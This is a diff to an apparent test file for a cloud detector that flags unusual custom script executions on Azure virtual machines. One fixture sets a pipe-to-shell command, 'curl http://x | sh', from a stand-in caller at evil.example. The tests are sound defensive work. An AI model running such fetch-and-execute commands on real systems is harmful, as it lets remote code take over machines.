@@ -11,9 +11,9 @@ AFTER = T0 + timedelta(days=14, hours=2)
 ROUTINE = {"commandToExecute": "sh configure.sh", "fileUris": ["https://acct.blob.core.windows.net/c/configure.sh"]}
 
 
-async def test_a_new_command_by_a_new_caller_is_unusual(run: Ingest):
+async def test_a_new_command_by_a_new_caller_from_a_new_range_is_unusual(run: Ingest):
     await run(routine(14))
-    report = await run([extension_write(vm("vm-05"), "cse", AFTER, caller="mallory@evil.example", ip="10.1.2.3",
+    report = await run([extension_write(vm("vm-05"), "cse", AFTER, caller="mallory@evil.example", ip="198.51.100.7",
                                         settings={"commandToExecute": "sh -c 'curl http://x | sh'"})])
     assert types(report.alerts) == ["VM_CustomScriptExtensionUnusualExecution"]
     assert any("not run on this subscription" in e for e in report.alerts[0].evidence)
@@ -39,3 +39,17 @@ async def test_nothing_while_learning(run: Ingest):
                                         caller="mallory@evil.example", ip="198.51.100.7",
                                         settings={"commandToExecute": "sh evil.sh"})])
     assert report.alerts == []
+
+
+async def test_a_new_pipeline_with_its_own_command_from_the_automation_range_is_routine(run: Ingest):
+    await run(routine(14))
+    report = await run([extension_write(vm("vm-05"), "cse", AFTER, caller="release-app-2", ip="20.50.7.7",
+                                        settings={"commandToExecute": "sh release-2.sh"})])
+    assert report.alerts == []
+
+
+async def test_known_credentials_from_a_new_range_running_a_new_command_are_unusual(run: Ingest):
+    await run(routine(14))
+    report = await run([extension_write(vm("vm-05"), "cse", AFTER, caller="pipeline-app", ip="198.51.100.7",
+                                        settings={"commandToExecute": "sh other.sh"})])
+    assert types(report.alerts) == ["VM_CustomScriptExtensionUnusualExecution"]
